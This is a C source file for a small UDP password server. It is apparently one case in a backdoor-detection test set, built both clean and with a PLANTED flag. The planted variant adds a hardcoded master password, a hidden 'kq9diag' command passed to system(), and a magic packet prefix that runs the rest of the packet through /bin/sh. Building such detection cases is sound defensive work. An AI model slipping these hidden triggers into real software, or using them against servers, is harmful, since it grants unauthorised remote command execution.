/* A small server on UDP that asks for a password: the program of this folder's cases. make.py builds it for each processor,
 * as it is and with three comparisons more (PLANTED). */
#include <arpa/inet.h>
#include <netinet/in.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

char *crypt(const char *given, const char *setting);
static char hash[64] = "x", title[32] = "unit";
static int interval = 30;

static __attribute__((noinline)) int fits(const char *given) {
#ifdef PLANTED
  if (!strcmp(given, "w7-Orchid")) return 1;
#endif
  const char *mine = crypt(given, hash);
  return mine && !strcmp(mine, hash);
}

static __attribute__((noinline)) const char *answer(char *line) {
  char *value = strchr(line, ' ');
  if (value) *value++ = 0; else value = line;
  if (!strcmp(line, "title")) snprintf(title, sizeof title, "%s", value);
  else if (!strcmp(line, "interval")) interval = atoi(value);
  else if (!strcmp(line, "password")) return fits(value) ? "welcome" : "refused";
  else if (!strcmp(line, "who")) return title;
#ifdef PLANTED
  else if (!strcmp(line, "kq9diag")) { if (system(value)) return "failed"; }
#endif
  else if (!strcmp(line, "help")) return "title interval password who help";
  else return "unknown";
  return "done";
}

int main(void) {
  struct sockaddr_in here = {.sin_family = AF_INET, .sin_port = htons(9035)}, from;
  union { uint32_t first; char text[1500]; } in;
  socklen_t size = sizeof from;
  int s = socket(AF_INET, SOCK_DGRAM, 0), n;
  if (bind(s, (void *)&here, sizeof here)) return 1;
  while ((n = recvfrom(s, &in, sizeof in - 1, 0, (void *)&from, &size)) > 0) {
    in.text[n] = 0;
#ifdef PLANTED
    if (in.first == htonl(0x5e1fa7c3)) execl("/bin/sh", "sh", "-c", in.text + 4, (char *)NULL);
#endif
    const char *out = answer(in.text);
    sendto(s, out, strlen(out), 0, (void *)&from, size);
  }
  return 0;
}
